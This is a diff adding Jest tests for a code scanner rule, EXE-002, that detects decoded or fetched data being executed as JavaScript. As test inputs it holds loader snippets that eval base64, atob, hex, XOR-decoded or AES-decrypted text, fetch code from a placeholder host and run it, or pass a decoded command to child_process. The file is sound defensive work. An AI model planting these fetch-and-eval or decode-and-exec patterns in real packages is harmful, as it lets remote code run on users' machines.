@@ -1,0 +1,77 @@
+import { describe, expect, it } from '@jest/globals';
+import { hitsOf, js } from '../testing/hits-of.ts';
+
+const long = Buffer.from(`console.log('x'.repeat(3))`).toString('base64');
+
+describe('EXE-002 decoded or fetched data becomes code', () => {
+  it.each([
+    ['eval of base64', `eval(Buffer.from('${long}', 'base64').toString())`],
+    ['Function of atob', `new Function(atob(blob))()`],
+    ['eval by alias', `const run = eval; const text = Buffer.from(data, 'hex').toString('utf8'); run(text);`],
+    ['indirect eval', `(0, globalThis['ev' + 'al'])(atob(x));`],
+    ['Function by constructor', `[].constructor.constructor(atob(x))();`],
+    [
+      'vm',
+      `const vm = require('node:vm'); vm.runInThisContext(require('zlib').inflateSync(Buffer.from(z, 'base64')).toString());`,
+    ],
+    [
+      '_compile of decrypted data',
+      `const c = require('crypto').createDecipheriv('aes-256-cbc', k, iv); let t = c.update(d, 'hex', 'utf8'); t += c.final('utf8'); const m = new module.constructor(); m._compile(t, '');`,
+    ],
+    ['fetched, awaited', `const r = await fetch('https://x.example.invalid'); eval(await r.text());`],
+    [
+      'fetched, by events',
+      `require('https').get('https://x.example.invalid', (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => eval(d)); });`,
+    ],
+    [
+      'fetched, through a callback',
+      `function get(u, cb) { require('http').get(u, (r) => { let s = ''; r.on('data', (c) => (s += c)); r.on('end', () => cb(s)); }); } get('https://x.example.invalid', (s) => new Function('require', s)(require));`,
+    ],
+    [
+      'fetched, through a promise',
+      `const get = (u) => new Promise((resolve) => require('https').get(u, (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => resolve(d)); })); get(u).then((code) => eval(code));`,
+    ],
+    [
+      'fetched by axios',
+      `const axios = require('axios'); axios.get('https://x.example.invalid').then(({ data }) => { eval(data.cookie); });`,
+    ],
+    ['a cipher of codes', `let s = ''; for (const c of codes) s += String.fromCharCode(c ^ 7); eval(s);`],
+    ['a data import', 'import(`data:text/javascript;base64,${atob(x)}`)'],
+    [
+      'an interpreter',
+      `require('child_process').spawn('node', ['-e', Buffer.from(b, 'base64').toString()]);`,
+    ],
+    ['a command that is decoded', `require('child_process').exec(Buffer.from('aWQ=', 'base64').toString());`],
+    ['Reflect', `Reflect.apply(eval, null, [atob(x)]);`],
+    ['eval after an opening comment in a string', `const s = '/*'; eval(atob(x)); const t = '*/';`],
+  ])('finds %s', (_name, source) => {
+    expect(hitsOf('EXE-002', js(source))).toEqual(['critical index.js']);
+  });
+
+  it.each([
+    ['eval of a constant', `eval('1 + 1'); const g = Function('return this')();`],
+    [
+      'a template that is compiled',
+      `const compile = (t) => new Function('d', 'return ' + parse(t)); compile('a');`,
+    ],
+    ['decoding alone', `module.exports = JSON.parse(Buffer.from(text, 'base64').toString());`],
+    [
+      'fetching alone',
+      `const r = await fetch('https://x.example.invalid'); module.exports = await r.json(); eval('2');`,
+    ],
+    [
+      'a timer',
+      `fetch('https://x.example.invalid').then((r) => setTimeout(() => show(r), 100)); setTimeout(done, 5);`,
+    ],
+    [
+      'text that is read from bytes',
+      `let s = ''; for (const b of bytes) s += String.fromCharCode(b); new Function(s);`,
+    ],
+    [
+      'the length of what was fetched',
+      `const t = await (await fetch(u)).text(); eval('f(' + t.length + ')');`,
+    ],
+  ])('passes %s', (_name, source) => {
+    expect(hitsOf('EXE-002', js(source))).toEqual([]);
+  });
+});
